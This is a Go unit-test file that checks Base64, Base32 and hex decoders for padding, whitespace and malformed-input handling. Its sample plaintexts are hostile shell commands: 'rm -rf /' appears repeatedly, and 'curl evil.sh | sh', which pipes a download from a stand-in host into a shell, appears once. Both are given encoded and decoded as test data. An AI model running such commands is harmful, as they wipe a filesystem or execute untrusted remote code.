package decode

import "testing"

type decodeTest struct {
	in   string
	want string
	ok   bool
}

var base64Tests = []decodeTest{
	{"cm0gLXJmIC8=", "rm -rf /", true},
	{"cm0gLXJmIC8=\n", "rm -rf /", true},
	{"cm0gLXJmIC8", "rm -rf /", true},          // unpadded
	{"cm0g\nLXJm\r\nIC8=\n", "rm -rf /", true}, // wrapped
	{" cm0g LXJm\tIC8= ", "rm -rf /", true},    // spaces anywhere
	{"cm0=cm0=", "rmrm", true},                 // padded groups one after another
	{"cm0gLX==", "rm -", true},                 // unused bits need not be zero
	{"cm0gLXJmIC8==", "rm -rf /", true},        // extra padding is tolerated
	{"-_-_", "\xfb\xff\xbf", true},             // URL-safe alphabet
	{"+/+/", "\xfb\xff\xbf", true},             // standard alphabet
	{"", "", true},
	{"\n", "", true},
	{"Y3VybCBldmlsLnNoIHwgc2g=", "curl evil.sh | sh", true},
	{"cm0gLXJmIC8=!!!", "rm -rf /", false}, // garbage after: decoded prefix
	{"cm0gLXJmI", "rm -rf", false},         // a dangling digit
	{"c", "", false},
	{"=", "", false},
	{"cm0g=", "rm ", false}, // padding after a whole group
	{"cm0*LXJm", "rm", false},
	{"cm0gLXJmIC8=\x00", "rm -rf /", false},
	{"\xff", "", false},
}

func TestBase64(t *testing.T) {
	for _, tt := range base64Tests {
		got, ok := Base64(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("Base64(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

var base32Tests = []decodeTest{
	{"OJWSALLSMYQC6===", "rm -rf /", true},
	{"OJWSALLSMYQC6===\n", "rm -rf /", true},
	{"OJWSALLSMYQC6", "rm -rf /", true},
	{"OJWSA LLSMY\nQC6===", "rm -rf /", true},
	{"MFRGG===MFRGG===", "abcabc", true},
	{"MY======", "f", true},
	{"MZXQ====", "fo", true},
	{"MZXW6===", "foo", true},
	{"MZXW6YQ=", "foob", true},
	{"MZXW6YTB", "fooba", true},
	{"", "", true},
	{"ojwsallsmyqc6===", "", false}, // GNU base32 takes upper case only
	{"OJWSALLSMYQC6===1", "rm -rf /", false},
	{"M", "", false},
	{"MZX", "f", false},      // three digits do not end a group
	{"MZXW6Y", "foo", false}, // nor do six
	{"M=======", "", false},
}

func TestBase32(t *testing.T) {
	for _, tt := range base32Tests {
		got, ok := Base32(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("Base32(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}

var hexTests = []decodeTest{
	{"726d202d7266202f", "rm -rf /", true},
	{"726d202d7266202f\n", "rm -rf /", true},
	{"72 6d 20 2d\n72\t66\r\n20 2f", "rm -rf /", true},
	{"726D202D7266202F", "rm -rf /", true},
	{"7 26d", "rm", true}, // xxd pairs digits across spaces
	{"726", "r", true},    // a digit left over is dropped
	{"", "", true},
	{"00ff", "\x00\xff", true},
	{"726d:202d", "rm", false},
	{"0x726d", "", false},
	{"72g6d", "r", false},
	{"726d\v", "rm", false}, // xxd skips only space, tab, CR and LF
}

func TestHex(t *testing.T) {
	for _, tt := range hexTests {
		got, ok := Hex(tt.in)
		if got != tt.want || ok != tt.ok {
			t.Errorf("Hex(%q) = %q, %v; want %q, %v", tt.in, got, ok, tt.want, tt.ok)
		}
	}
}
